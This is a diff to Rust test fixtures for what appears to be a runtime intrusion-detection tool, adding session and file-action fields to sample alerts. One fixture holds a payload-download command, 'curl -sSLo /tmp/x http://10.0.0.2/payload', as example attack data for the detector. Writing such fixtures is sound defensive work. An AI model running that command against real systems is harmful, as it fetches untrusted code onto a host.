@@ -13,7 +13,7 @@ use crate::event::{Body, Event, Protocol};
 use crate::sigma::Level;
 use crate::sink::Origin;
 use crate::state::container::{Container, Pod, Runtime};
-use crate::state::process::{Executable, Process, ProcessKey};
+use crate::state::process::{Executable, Process, ProcessKey, Session};
 
 const MILLISECOND: u64 = 1_000_000;
 const ADDRESS: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2));
@@ -56,6 +56,7 @@ fn process(pid: u32, path: &str, arguments: &[&str], container: Option<&str>) ->
         executable: Executable { path: path.to_owned(), ..Executable::default() },
         arguments: arguments.iter().map(|argument| (*argument).to_owned()).collect::<Vec<_>>().into(),
         arguments_truncated: false,
+        session: Session::default(),
         directory: Some("/srv".to_owned()),
         comm: path.rsplit('/').next().unwrap_or(path).chars().take(15).collect(),
         uid: 0,
@@ -122,7 +123,10 @@ pub(crate) fn alert() -> Alert {
                 Action::Executed { command_line: "curl -sSLo /tmp/x http://10.0.0.2/payload".to_owned() },
             ),
             step(12, Action::Connected { protocol: Protocol::Tcp, address: ADDRESS, port: 80 }),
-            step(15, Action::Wrote { path: "/tmp/x".to_owned() }),
+            step(
+                15,
+                Action::Wrote { path: "/tmp/x".to_owned(), bytes: Some(1_258_291), size: Some(1_258_291) },
+            ),
             step(
                 19,
                 Action::Disconnected {
@@ -162,6 +166,8 @@ fn hostile_process(pid: u32) -> Arc<Process> {
             path: hostile_text(),
             invoked: Some(hostile_text() + "i"),
             applet: Some(hostile_text() + "a"),
+            loaded: Some(hostile_text() + "l"),
+            interpreter: Some(hostile_text()),
             memfd: true,
             deleted: true,
             upper_layer: true,
@@ -169,6 +175,13 @@ fn hostile_process(pid: u32) -> Arc<Process> {
         },
         arguments: (0..6).map(|_| hostile_text()).collect::<Vec<_>>().into(),
         arguments_truncated: true,
+        session: Session {
+            login_uid: Some(4_000_000_000),
+            terminal: Some(hostile_text()),
+            environment: vec![hostile_text(); 8],
+            by_thread: true,
+            ..Session::default()
+        },
         directory: Some(hostile_text()),
         comm: hostile_text(),
         effective_uid: 0,
@@ -206,7 +219,11 @@ pub(crate) fn hostile() -> Alert {
     let steps = [
         Action::Executed { command_line: hostile_text() },
         Action::Opened { path: hostile_text() },
-        Action::Wrote { path: hostile_text() },
+        Action::Wrote { path: hostile_text(), bytes: Some(u64::MAX), size: Some(0) },
+        Action::Linked { from: hostile_text(), to: hostile_text() + "l" },
+        Action::Deleted { path: hostile_text() },
+        Action::MadeExecutable { path: hostile_text() },
+        Action::Read { path: hostile_text() },
         Action::Renamed { from: hostile_text(), to: hostile_text() + "r" },
         Action::Exited { status: None, signal: Some(9) },
     ];
